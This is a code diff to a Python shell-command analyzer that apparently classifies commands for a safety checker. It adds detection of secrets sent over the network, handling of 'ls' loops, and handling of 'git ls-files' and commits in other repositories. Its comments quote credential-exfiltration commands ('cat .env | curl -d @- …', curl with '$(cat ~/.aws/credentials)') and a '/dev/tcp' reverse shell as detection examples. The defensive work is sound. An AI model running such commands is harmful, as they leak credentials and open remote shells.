@@ -65,7 +65,14 @@ from clearance.shellparse.nodes import (
     Word,
 )
 from clearance.shellparse.paths import inside, resolve
-from clearance.shellparse.world import add_selection, ground, mark_trees, selection_of
+from clearance.shellparse.resolve import Problem
+from clearance.shellparse.world import (
+    add_selection,
+    ground,
+    mark_trees,
+    selection_of,
+    tracked_selection,
+)
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
@@ -220,7 +227,7 @@ class Extractor:
             self.command(commands[0], env, scope)
             return _static_output(self.out[start:], scope.stdin_text)
         stdin_text: str | None = scope.stdin_text
-        upstream_network = upstream_everything = False
+        upstream_network = upstream_everything = upstream_secret = False
         selected: list[str] | None = None
         for k, command in enumerate(commands):
             stage = scope.with_context("pipeline")
@@ -238,7 +245,13 @@ class Extractor:
                 for fact in produced:
                     if _destroys_items(fact):
                         fact.markers.add("workspace_wide")
+            if k and upstream_secret:
+                # ``cat .env | curl -d @- https://…``: what the network part reads is sent
+                for fact in produced:
+                    if fact.stdin == "pipe":
+                        sends_secret(fact)
             upstream_network = upstream_network or any("network" in f.classes for f in produced)
+            upstream_secret = upstream_secret or any("secret_read" in f.classes for f in produced)
             upstream_everything = upstream_everything or any(
                 self._lists_everything(f) for f in produced
             )
@@ -303,6 +316,11 @@ class Extractor:
             values: list[tuple[str, bool]] | None = [] if command.items is not None else None
             for word in command.items or ():
                 self.word(word, local, scope)
+                listed = self._listing(word, local)
+                if listed is not None and values is not None:
+                    values.append((listed, True))
+                    numbers = False
+                    continue
                 fields, flag = expand_word(word, local)
                 numbers = numbers and not flag & (DYNAMIC | GLOB)
                 numbers = numbers and all(_ARITH_NUMBER.rx.fullmatch(f) for f in fields)
@@ -335,6 +353,27 @@ class Extractor:
                     self.word(pattern, local, scope)
                 self.body(item.body, local, scope.with_context("branch"))
         _forget_changes(env, before, local)
+
+    def _listing(self, word: Word, env: Env) -> str | None:
+        """``for f in $(ls)``: the names ``ls`` prints are those ``*`` matches -- unless one
+        would split or expand again (a blank, a newline or a glob character in a name: ``x
+        .env`` would give ``.env``). ``*`` then, else ``None`` (the values stay unknown)."""
+        parts = word.parts
+        if self.resolver is None or env.cwd is None or len(parts) != 1:
+            return None
+        part = parts[0]
+        if not isinstance(part, CommandSubstitution):
+            return None
+        inner = part.text.strip("`") if part.backtick else part.text[2:-1]
+        if inner.split() not in (["ls"], ["ls", "-1"]):
+            return None
+        try:
+            names = self.resolver.expand(env.cwd.rstrip("/") + "/*")
+        except Problem:
+            return None
+        if any(_SPLITS_OR_GLOBS.search(n.rsplit("/", 1)[-1]) for n in names):
+            return None
+        return "*"
 
     def _inherit_redirects(self, redirects: list[Redirect], env: Env, scope: Scope) -> Scope:
         for redirect in redirects:
@@ -515,6 +554,19 @@ class Extractor:
                 self.selections[key] = patterns
         elif len(produced) == 1 and produced[0].program == "git" and not produced[0].via:
             patterns = _ls_files_selection(produced[0], env.cwd)
+            git = produced[0]
+            if (
+                not patterns
+                and self._lists_everything(git)
+                and set(git.argv[2:]) <= _LS_FILES_PLAIN
+                and not any(p.source == "cwd" for p in git.paths)
+            ):
+                # every tracked file: the index says which, and which of them are secrets
+                root = self.workspace
+                if root is not None and env.cwd is not None and self.resolver is not None:
+                    patterns = tracked_selection(
+                        root, env.cwd, self.home, self.classifier.fold, self.resolver
+                    )
             if patterns:
                 self.selections[key] = patterns
 
@@ -633,13 +685,15 @@ class Extractor:
             self._assignment_words(assignment, env, scope)
         # Substitutions run first; remember whether one fetched from the network, and whether
         # it fed the program's name (``$(curl …)``) or its arguments.
-        fetched_program = fetched_args = False
+        fetched_program = fetched_args = secret_args = False
         for k, word in enumerate(command.words):
             start = len(self.out)
             self.word(word, env, scope)
             if any("network" in f.classes for f in self.out[start:]):
                 fetched_program = fetched_program or k == 0
                 fetched_args = True
+            if k and any("secret_read" in f.classes for f in self.out[start:]):
+                secret_args = True  # ``curl "https://x/?q=$(cat .env)"``
         for redirect in command.redirects:
             start = len(self.out)
             self.word(redirect.target, env, scope)
@@ -722,6 +776,8 @@ class Extractor:
             # (``bash -i >& /dev/tcp/host/port 0>&1``)
             fact.classes.update(("code_exec", "remote_code_exec"))
         _builtin_effects(fact, argv, flags, env, env.home)
+        if secret_args:
+            sends_secret(fact)
 
     def emit(
         self,
@@ -936,10 +992,24 @@ class Extractor:
         classifier = self.classifier
         mark_trees(fact)
         classifier.cwd = env.cwd
+        moved = [p for p in fact.paths if p.source == "cwd"]
+        where = moved[-1].resolved if moved else env.cwd
+        elsewhere = where is not None and inside(where, classifier.workspace) is not True
+        if "vcs_write" in fact.classes and elsewhere and not (where or "").startswith("\0"):
+            # a commit in another repository (``git -C /elsewhere commit``, ``cd /x && git
+            # add .``) writes there, not in the project
+            fact.paths.append(
+                PathFact(
+                    moved[-1].path if moved else ".",
+                    where,
+                    "write",
+                    inside(where, classifier.workspace),
+                    "cwd",
+                    why="a commit or staging writes the repository it runs in",
+                )
+            )
         if fact.classes & {"build", "test"}:
             # a build or a test writes where it runs: ``make -C /tmp/x``, ``cd /x && make``
-            moved = [p for p in fact.paths if p.source == "cwd"]
-            where = moved[-1].resolved if moved else env.cwd
             fact.paths.append(
                 PathFact(
                     moved[-1].path if moved else ".",
@@ -1633,6 +1703,14 @@ def _printf(template: str, args: list[str]) -> str | None:
     return "".join(out)
 
 
+#: Characters that make an unquoted substitution's output split or expand again.
+_SPLITS_OR_GLOBS = re.compile(r"[\s*?\[]")
+
+#: ``git ls-files`` options that leave its output the tracked files' paths relative to the cwd
+#: (``--others``, ``--full-name``, ``--recurse-submodules``, ``-s``… print something else).
+_LS_FILES_PLAIN = frozenset(("-z", "-c", "--cached"))
+
+
 def _ls_files_selection(git: SimpleCommandFacts, cwd: str | None) -> list[str]:
     """``git ls-files '*.md'`` prints the tracked files its pathspecs pick, as the
     ``ROOT/{}/NAME`` patterns a ``find`` selection uses; ``[]`` without a pathspec (every
@@ -1647,6 +1725,15 @@ def _ls_files_selection(git: SimpleCommandFacts, cwd: str | None) -> list[str]:
         f"{base}/{{}}/{spec}" if "/" not in spec else os.path.normpath(os.path.join(cwd, spec))
         for spec in specs
     ]
+
+
+def sends_secret(fact: SimpleCommandFacts) -> None:
+    """A network part given secret material -- in an argument (``curl -H "X: $(cat
+    ~/.aws/credentials)"``, a query built from ``$(cat .env)``) or on its input (``cat .env |
+    curl -d @- …``) -- sends it: a secret read and a network write (a web write of a secret)."""
+    if "network" in fact.classes:
+        fact.classes.update(("secret_read", "network_write"))
+        fact.classes.discard("network_read")
 
 
 def unknown_reads(fact: SimpleCommandFacts) -> None:
